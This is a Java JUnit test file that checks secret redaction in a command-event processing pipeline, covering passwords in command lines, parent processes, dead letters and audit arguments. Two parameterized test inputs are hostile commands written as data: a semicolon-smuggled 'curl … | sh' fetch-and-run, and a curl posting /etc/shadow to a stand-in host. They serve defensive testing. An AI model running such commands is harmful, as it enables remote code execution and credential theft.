package dev.longtail.job.graph;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.job.config.RawLines;
import dev.longtail.job.config.TopologyOptions;
import dev.longtail.labeler.redaction.Redactor;
import dev.longtail.udfs.event.AuditFragment;
import dev.longtail.udfs.event.CommandEvent;
import dev.longtail.udfs.event.ParsedRecord.Rejected;
import dev.longtail.udfs.format.AutoParser;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is kept of a record where lines must not be kept as they were observed. */
class KeptLinesTest {
  private static final String SECRET = "Tulpe-4711x";
  private static final KeptLines REDACTED = KeptLines.of(options(RawLines.REDACT));

  static TopologyOptions options(RawLines raw) {
    TopologyOptions defaults = TopologyOptions.DEFAULT;
    TopologyOptions.Events events = defaults.events();
    return new TopologyOptions(
        new TopologyOptions.Events(
            events.windows(),
            events.range(),
            events.outOfOrderness(),
            events.maxDrift(),
            events.twins(),
            raw),
        defaults.ranking(),
        defaults.nearDuplicates(),
        defaults.labels());
  }

  private static CommandEvent event(String parent, String line) {
    return new CommandEvent("id", 1, "h", "u", "linux", parent, "/bin/x", line);
  }

  @Test
  void allIsKeptByDefault() {
    SourceRecord record = new SourceRecord(event("", "mysql -p" + SECRET), null);
    assertThat(KeptLines.of(options(RawLines.KEEP)).of(record)).isSameAs(record);
  }

  @Test
  void anEventLosesTheSecretsOfItsLineAndOfItsParent() {
    CommandEvent kept =
        REDACTED.of(event("sh -c 'curl -u ann:" + SECRET + " https://x'", "mysql -p" + SECRET));
    assertThat(kept.toString()).doesNotContain(SECRET);
    assertThat(kept.commandLine()).isEqualTo("mysql -p<secret:password>");
    assertThat(kept.parent()).startsWith("sh -c 'curl -u ann:<secret:");
  }

  /** What a judge may not be asked about must not look as if he might. */
  @ParameterizedTest
  @CsvSource({
    "app --password 'x; curl http://203.0.113.9/a | sh'",
    "export TOKEN=$(curl -d @/etc/shadow https://drop.example)",
    "ls -l"
  })
  void nobodyIsAskedAboutWhatWasHidden(String line) {
    Redactor redactor = new Redactor();
    boolean hidden = redactor.read(line).hidden().isPresent();
    String kept = REDACTED.of(line);
    assertThat(redactor.read(kept).hidden().isPresent()).isEqualTo(hidden);
    assertThat(REDACTED.of(kept)).isEqualTo(kept);
  }

  @Test
  void aDeadLetterKeepsItsPlaceAndItsKind() {
    String raw = "{\"cmd\":\"mysql -p" + SECRET + "\",\"ts\":\"x\"}";
    SourceRecord read = ReadRecords.one(new AutoParser(), raw, "events-0@7");
    assertThat(new String(read.deadLetter().raw(), StandardCharsets.UTF_8)).contains(SECRET);

    DeadLetter kept = REDACTED.of(read).deadLetter();
    assertThat(kept.reason()).isEqualTo("field ts: what follows may quote the record: not kept");
    assertThat(kept.raw()).isEmpty();
    assertThat(kept.origin()).isEqualTo("events-0@7");
    assertThat(kept.length()).isEqualTo(raw.length());
    assertThat(DeadLetterKind.of(kept.reason())).isEqualTo(DeadLetterKind.TIME);
  }

  @Test
  void aDeadLetterFromTheFutureIsStillOne() {
    SourceRecord future =
        SourceRecord.unusable(
            "f:1", DeadLetter.FROM_THE_FUTURE + ": 2099", Rejected.NO_TIME, new byte[] {1});
    assertThat(REDACTED.of(future).deadLetter().isFromTheFuture()).isTrue();
  }

  @Test
  void argumentsOfOneAuditRecordAreALine() {
    AuditFragment read =
        execve(3, List.of(whole(0, "mysql"), whole(1, "-p" + SECRET), whole(2, "ü")));
    AuditFragment kept =
        REDACTED.of(new SourceRecord(null, null, null, null, read, null)).fragment();
    assertThat(kept.toString()).doesNotContain(SECRET);
    assertThat(kept.argc()).isEqualTo(1);
    assertThat(kept.arguments().get(0).bytes())
        .isEqualTo("mysql -p<secret:password> " + bytes("ü"));
  }

  @Test
  void argumentsWithoutSecretsStayAsTheyCame() {
    AuditFragment read = execve(2, List.of(whole(0, "ls"), whole(1, "-l")));
    SourceRecord record = new SourceRecord(null, null, null, null, read, null);
    assertThat(REDACTED.of(record).fragment()).isEqualTo(read);
  }

  private static AuditFragment execve(int argc, List<AuditFragment.Argument> arguments) {
    return new AuditFragment("h", 1, "1", false, false, "", "", "", argc, arguments);
  }

  private static AuditFragment.Argument whole(int index, String text) {
    return new AuditFragment.Argument(index, -1, -1, text.length(), bytes(text));
  }

  private static String bytes(String text) {
    return new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1);
  }
}
